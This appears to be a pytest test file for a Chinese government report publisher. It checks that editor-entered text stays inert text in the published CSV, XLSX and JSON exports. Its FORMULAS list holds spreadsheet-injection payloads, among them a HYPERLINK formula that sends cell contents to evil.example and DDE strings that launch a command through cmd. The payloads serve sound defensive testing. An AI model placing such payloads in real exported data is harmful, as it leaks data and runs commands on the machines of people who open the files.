"""No text that an editor types becomes a formula: a project full of them, and every table that is published of it."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from generator.data.tables import FOLDER, TABLES
from generator.files.delimited import runs, unguarded
from generator.formats import by_id
from generator.importers import read_bytes
from generator.project.keys import AGENCY_FIELDS, NOTE_FIELDS, SITE_FIELDS, Field, report_fields
from generator.writers import by_name
from tests import bulk
from tests.hostile_project import filled
from tests.sample import SITE, Tree, archive_of, edition, snippet, tree
from tests.spreadsheets import theme

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "'=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"甲")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
YEAR = 2022
OURS = {"依申请公开", "复议诉讼", "主动公开"}


def project(folder: Path) -> Path:
    """Write a project with one body per formula; each text of it, and of its report, is that formula."""
    write(
        folder / "content/site.yaml",
        {**_texts(SITE_FIELDS, FORMULAS[0]), **_sound(), "下载": ["xlsx", "csv", "json"]},
    )
    bodies = {
        f"b{number}": {**_texts(AGENCY_FIELDS, formula), "类别": "部门", "曾用名": []}
        for number, formula in enumerate(FORMULAS)
    }
    write(folder / "content/agencies.yaml", bodies)
    for number, formula in enumerate(FORMULAS):
        write(folder / f"content/reports/b{number}/{YEAR}.yaml", _report(formula))
    return folder


def _sound() -> dict[str, Tree]:
    base = snippet(SITE)
    return {key: base[key] for key in ("网站域名", "网站标识码", "示例")}


def _texts(fields: tuple[Field, ...], formula: str) -> dict[str, Tree]:
    return filled(fields, lambda field: "" if field.pattern else formula)


def _report(formula: str) -> dict[str, Tree]:
    form = by_id("2021")
    assert form
    found: dict[str, Tree] = {
        **tree(YEAR, form),
        **_texts(report_fields(form), formula),
        "状态": "发布",
        "附件": [],
    }
    for section in form.sections:
        if section.table:
            found[section.note_key] = _texts(NOTE_FIELDS, formula)
    found["更正"] = [
        {
            "日期": "2023-03-01",
            "内容": formula,
            "理由": formula,
            "原为": {"总体情况": formula, "依申请公开.本年新收.总计": "7"},
        }
    ]
    return found


def write(file: Path, value: object) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps(value, indent=1), encoding="utf-8")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give what is published of the project as files of data; an error would keep a report off a whole site."""
    folder = tmp_path_factory.mktemp("formulas")
    archive = archive_of(project(folder / "project"))
    for number in range(len(FORMULAS)):
        copied = edition(archive, f"b{number}", YEAR)
        for writer in map(by_name, ("xlsx", "csv", "json")):
            assert writer
            file = folder / f"site/{YEAR}/b{number}/{writer.file}"
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(writer.write(copied, theme()))
    bulk.write(archive, folder / "site")
    return folder / "site"


def rows(file: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline="")))


def told(site: Path) -> dict[str, dict[str, str]]:
    """Give the texts of every report by its slug, as the JSON copy has them."""
    copies = [json.loads(file.read_bytes()) for file in site.glob(f"{YEAR}/*/report.json")]
    return {
        one["agency"]["slug"]: {
            "机关": one["agency"]["name"],
            "标题": one["title"],
            "索引号": one["metadata"].get("索引号", ""),
            "更正": one["corrections"][0]["text"],
            "理由": one["corrections"][0]["reason"],
        }
        for one in copies
    }


def test_the_formulas_reached_the_reports(site: Path) -> None:
    found = told(site)
    assert len(found) == len(FORMULAS)
    for number, formula in enumerate(FORMULAS):
        assert set(found[f"b{number}"].values()) == {formula.strip()}


def test_no_cell_of_a_csv_runs(site: Path) -> None:
    files = [*site.glob(f"{YEAR}/*/report.csv"), *(site / FOLDER / table.file for table in TABLES)]
    assert len(files) == len(FORMULAS) + len(TABLES)
    guarded = 0
    for file in files:
        for row in rows(file):
            cells = [*row, *row.values()]
            assert not [cell for cell in cells if runs(cell) and not cell.startswith("'")]
            guarded += sum(cell.startswith("'") for cell in cells)
    assert guarded > 5 * len(FORMULAS)


def test_what_was_guarded_in_a_csv_reads_back_equal(site: Path) -> None:
    wanted = told(site)
    listed = rows(site / FOLDER / "reports.csv")
    assert len(listed) == len(FORMULAS)
    for row in listed:
        assert {key: unguarded(row[key]) for key in ("机关", "标题", "索引号")}.items() <= wanted[
            row["机关代号"]
        ].items()
    for slug, texts in wanted.items():
        copy = rows(site / f"{YEAR}/{slug}/report.csv")
        assert {unguarded(row["机关"]) for row in copy} == {texts["机关"]}


def test_no_cell_of_a_workbook_is_a_formula_but_our_totals(site: Path) -> None:
    """A text that looks like one is marked, so that it stays a text when somebody edits the cell."""
    seen = 0
    for file in site.glob(f"{YEAR}/*/report.xlsx"):
        for sheet in openpyxl.load_workbook(file):
            for cell in (cell for line in sheet.iter_rows() for cell in line):
                if cell.data_type == "f":
                    assert sheet.title in OURS
                    assert str(cell.value).startswith("=SUM(")
                elif isinstance(cell.value, str) and runs(cell.value):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen += 1
    assert seen > 5 * len(FORMULAS)


def test_the_workbook_reads_back_equal(site: Path) -> None:
    for slug, texts in told(site).items():
        file = site / f"{YEAR}/{slug}/report.xlsx"
        facts = dict(read_bytes(file.read_bytes(), file.name, "").facts)
        assert facts["索引号"] == texts["索引号"]
